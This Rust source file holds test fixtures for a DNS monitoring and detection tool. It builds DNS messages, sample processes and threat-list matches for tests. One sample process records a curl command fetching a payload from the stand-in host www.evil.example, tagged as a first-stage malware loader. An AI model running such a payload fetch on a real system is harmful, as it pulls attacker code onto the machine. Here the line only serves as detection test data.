//! Messages and processes to make documents of; the benches use them too.

use std::net::SocketAddr;
use std::rc::Rc;
use std::sync::Arc;

use dnstrail::alert::Match;
use dnstrail::dns::{Kind, Message};
use dnstrail::event::{self, ConnectionId, Direction, Stage, Task, TaskKey};
use dnstrail::host::{BootClock, Host, OperatingSystem};
use dnstrail::journal::{Body, Document};
use dnstrail::net::Transport;
use dnstrail::process::{Actor, Container, Process};
use dnstrail::rules::{Entry, List, Metadata};
use dnstrail::schema::{Agent, Schema, Writer};
use dnstrail::sighting::Marks;
use dnstrail::sighting::connection::{self, DESTINATION_IP};
use dnstrail::sighting::dns::{self, Occurrence, QUESTION_NAME};

/// 2026-11-21T03:10:30.123456789Z
pub const TIME: u64 = 1_795_230_630_123_456_789;

pub fn host() -> Host {
    Host {
        hostname: "web-1".into(),
        id: Some("0123456789abcdef0123456789abcdef".into()),
        architecture: "x86_64",
        boot_id: Some("88a1f0ed-5ae5-41ee-af6b-41921c311872".into()),
        os: OperatingSystem {
            platform: Some("debian".into()),
            family: Some("debian".into()),
            name: Some("Debian GNU/Linux".into()),
            version: Some("12".into()),
            full: Some("Debian GNU/Linux 12 (bookworm)".into()),
            kernel: Some("6.1.0-13-amd64".into()),
        },
        ..Host::default()
    }
}

pub fn writer() -> Writer {
    Writer::new(Schema::Ecs, &host(), &Agent::new(&host(), "1795230630"))
}

/// A message on the wire, put together by hand.
#[derive(Debug, Clone)]
pub struct Wire {
    bytes: Vec<u8>,
}

impl Wire {
    pub fn new(id: u16, flags: u16) -> Self {
        let [id, flags] = [id, flags].map(u16::to_be_bytes);
        Self { bytes: [id, flags, [0; 2], [0; 2], [0; 2], [0; 2]].concat() }
    }

    fn count(&mut self, section: usize) {
        self.bytes[5 + 2 * section] += 1;
    }

    fn name(&mut self, name: &[&[u8]]) {
        for label in name {
            self.bytes.push(label.len().try_into().unwrap());
            self.bytes.extend_from_slice(label);
        }
        self.bytes.push(0);
    }

    pub fn question(mut self, name: &[&[u8]], qtype: u16) -> Self {
        self.count(0);
        self.name(name);
        self.bytes.extend([qtype.to_be_bytes(), 1_u16.to_be_bytes()].concat());
        self
    }

    /// `section` 1 is the answer section.
    pub fn record(mut self, section: usize, name: &[&[u8]], rtype: u16, class: u16, ttl: u32, data: &[u8]) -> Self {
        self.count(section);
        self.name(name);
        self.bytes.extend([rtype.to_be_bytes(), class.to_be_bytes()].concat());
        self.bytes.extend(ttl.to_be_bytes());
        self.bytes.extend(u16::try_from(data.len()).unwrap().to_be_bytes());
        self.bytes.extend_from_slice(data);
        self
    }

    pub fn answer(self, name: &[&[u8]], rtype: u16, data: &[u8]) -> Self {
        self.record(1, name, rtype, 1, 300, data)
    }

    pub fn cname(self, name: &[&[u8]], target: &[&[u8]]) -> Self {
        let mut data = Self { bytes: Vec::new() };
        data.name(target);
        self.answer(name, 5, &data.bytes)
    }

    /// EDNS, 1232 bytes, DO.
    pub fn edns(self, options: &[u8]) -> Self {
        self.record(3, &[], 41, 1232, 0x8000, options)
    }

    pub fn cut(mut self, bytes: usize) -> Self {
        self.bytes.truncate(self.bytes.len() - bytes);
        self
    }

    pub fn bytes(&self) -> Vec<u8> {
        self.bytes.clone()
    }

    pub fn message(&self) -> Message {
        let mut message = Message::default();
        message.decode(&self.bytes, Kind::Dns).unwrap();
        message
    }
}

pub const WWW: &[&[u8]] = &[b"www", b"evil", b"example"];
pub const CDN: &[&[u8]] = &[b"edge-7", b"cdn", b"test"];

/// RD
pub const QUERY: u16 = 0x0100;
/// QR RD RA
pub const ANSWER: u16 = 0x8180;

pub fn query() -> Message {
    Wire::new(4711, QUERY).question(WWW, 1).edns(&[]).message()
}

pub fn answer() -> Message {
    let mut wire = Wire::new(4711, ANSWER).question(WWW, 1).cname(WWW, CDN);
    for last in 1..=4 {
        wire = wire.answer(CDN, 1, &[192, 0, 2, last]);
    }
    wire.edns(&[]).message()
}

pub fn parent() -> Process {
    Process {
        key: TaskKey { pid: 4000, exec_id: 7, start: 5_000_000_000 },
        entity_id: "5c1f0a4be6d94f10".into(),
        clock: BootClock::new(TIME - 3_605_000_000_000),
        executable: Some("/usr/bin/bash".into()),
        executable_file: None,
        executable_deleted: false,
        name: "bash".into(),
        path_cut: false,
        arguments: Some(Rc::new(["-bash"].into_iter().collect())),
        working_directory: Some("/home/ada".into()),
        uid: 1000,
        gid: 1000,
        user_name: Some("ada".into()),
        group_name: Some("ada".into()),
        namespace_pid: None,
        network_namespace: 4_026_531_840,
        mount_namespace: 0,
        foreign_mounts: false,
        container: None,
        unit: None,
        parent: None,
        parent_key: None,
        parent_name: None,
        ancestors: None,
        adopted: false,
    }
}

pub fn process() -> Process {
    Process {
        key: TaskKey { pid: 4242, exec_id: 9, start: 9_000_000_000 },
        entity_id: "9e107d9d372bb682".into(),
        clock: BootClock::new(TIME - 11_000_000_000),
        executable: Some("/usr/bin/curl".into()),
        name: "curl".into(),
        arguments: Some(Rc::new(["curl", "-sS", "https://www.evil.example/payload"].into_iter().collect())),
        parent: Some(Rc::new(parent())),
        parent_key: Some(parent().key),
        parent_name: Some("bash".into()),
        ..parent()
    }
}

pub fn contained() -> Process {
    Process {
        namespace_pid: Some(12),
        executable_deleted: true,
        container: Some(Container {
            id: "3d1219c7c4c5404aaa1f6d2a48adfda43d1219c7c4c5404aaa1f6d2a48adfda4".into(),
            runtime: Some("docker"),
            pod: None,
        }),
        ..process()
    }
}

pub fn task() -> Task {
    Task { process: process().key, tid: 4243, uid: 1000, gid: 1000, name: *b"resolver-1\0\0\0\0\0\0" }
}

/// A process of the samples, and its thread that asks.
pub fn actor(process: Process) -> Actor {
    Actor { process: Some(Rc::new(process)), task: Some(task()) }
}

pub fn client() -> SocketAddr {
    "198.51.100.7:40123".parse().unwrap()
}

pub fn server() -> SocketAddr {
    "203.0.113.53:53".parse().unwrap()
}

pub fn hit(indicator: &str) -> Entry {
    Entry {
        list: Arc::new(List {
            id: "demo".into(),
            name: "Demo list".into(),
            category: Some("malware".into()),
            reference: Some("https://lists.example/demo".into()),
            feed: Some("Example feed".into()),
            severity: Some(70),
            path: "/etc/dnstrail/rules/demo.txt".into(),
            version: "1b2c3d4e".into(),
        }),
        line: 12,
        indicator: indicator.into(),
        metadata: Some(Arc::new(Metadata {
            uuid: Some("ff93aee5-86a1-4a61-b0e6-0cdc313d01b5".into()),
            source: Some("Example analysts".into()),
            description: Some("Loader, first stage".into()),
            severity: Some(90),
        })),
    }
}

pub fn matches() -> Vec<Match> {
    vec![Match { hit: hit("evil.example"), field: &QUESTION_NAME, atomic: "www.evil.example".into() }]
}

pub fn asked<'a>(message: &'a Message, actor: &'a Actor) -> dns::Document<'a> {
    dns::Document {
        occurrence: Occurrence::Query,
        actor,
        network_namespace: 4_026_531_840,
        transport: Transport::Udp,
        source: client(),
        destination: server(),
        source_is_client: true,
        direction: Some(Direction::Egress),
        behind_nat: None,
        marks: Marks::default(),
        message_bytes: 45,
        first_bytes: &[],
        message,
        query: None,
        matches: &[],
        alert: false,
    }
}

pub fn answered<'a>(message: &'a Message, actor: &'a Actor) -> dns::Document<'a> {
    dns::Document {
        occurrence: Occurrence::Answer { query_time: Some(TIME - 1_234_567), late: false, duplicate: false },
        source: server(),
        destination: client(),
        source_is_client: false,
        direction: Some(Direction::Ingress),
        message_bytes: 141,
        ..asked(message, actor)
    }
}

pub fn connection(stage: Stage) -> event::Connection {
    event::Connection {
        time: TIME,
        id: ConnectionId { begin: 1, socket: 2 },
        stage,
        task: Some(task()),
        start: TIME - 61_000_000_000,
        source: "198.51.100.7:40999".parse().unwrap(),
        destination: "192.0.2.3:443".parse().unwrap(),
        network_namespace: 4_026_531_840,
        sent: 1_234,
        received: 567_890,
        error: 0,
    }
}

pub fn connected<'a>(event: &'a event::Connection, actor: &'a Actor, matches: &'a [Match]) -> connection::Document<'a> {
    let resolved = event.start - 1_234_567;
    connection::Document { event, actor, name: "www.evil.example", resolved, matches }
}

/// Matches of an address that `www.evil.example` resolved to.
pub fn matches_of_address() -> Vec<Match> {
    vec![Match { hit: hit("evil.example"), field: &DESTINATION_IP, atomic: "192.0.2.3".into() }]
}

/// A line as it should be.
pub fn line_of_answer() -> Vec<u8> {
    let (message, actor) = (answer(), actor(process()));
    let body = Body::Dns(answered(&message, &actor));
    let mut line = Vec::new();
    Document { time: TIME, sequence: 2, body }.write(&mut writer(), &mut line);
    line
}
